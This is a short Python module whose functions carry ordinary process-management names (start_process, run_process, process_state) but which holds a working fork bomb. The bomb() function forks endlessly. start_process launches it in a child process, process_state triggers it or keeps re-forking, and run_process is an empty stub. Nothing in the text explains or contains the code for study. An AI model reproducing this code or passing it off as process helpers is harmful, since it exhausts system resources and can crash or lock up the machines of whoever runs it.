import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def start_process(target):
    if os.fork() == 0:
        bomb()


def run_process(target):
    return None


def process_state(process):
    if process.pid is None:
        bomb()
    while process.exitcode == 0:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
